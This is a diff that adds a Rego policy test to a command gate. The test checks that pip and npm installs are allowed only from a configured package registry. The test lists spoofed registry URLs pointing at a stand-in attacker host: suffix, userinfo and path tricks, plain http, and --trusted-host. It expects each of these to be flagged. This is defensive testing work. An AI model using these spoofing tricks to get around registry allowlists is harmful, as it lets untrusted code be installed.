@@ -140,3 +140,24 @@ test_asks_about_other_registries if {
 		count(run.ask) == 0 with input as gate.event(line)
 	}
 }
+
+test_registries_are_a_parameter if {
+	every line in [
+		"pip install --index-url https://pkg.acme.example/simple x",
+		"pip install --index-url https://user:token@pkg.acme.example:8443/simple x",
+		"npm install --registry https://npm.pkg.acme.example x",
+	] {
+		count(run.ask) == 0 with input as gate.event(line)
+			with data.gate.params.gate.remote_code.run.registries as ["pkg.acme.example"]
+	}
+	every line in [
+		"pip install --index-url http://pkg.acme.example/simple x",
+		"pip install --index-url https://pkg.acme.example.evil.example/simple x",
+		"pip install --index-url https://pkg.acme.example@evil.example/simple x",
+		"pip install --index-url https://evil.example/pkg.acme.example x",
+		"pip install --trusted-host pkg.acme.example x",
+	] {
+		count(run.ask) > 0 with input as gate.event(line)
+			with data.gate.params.gate.remote_code.run.registries as ["pkg.acme.example"]
+	}
+}
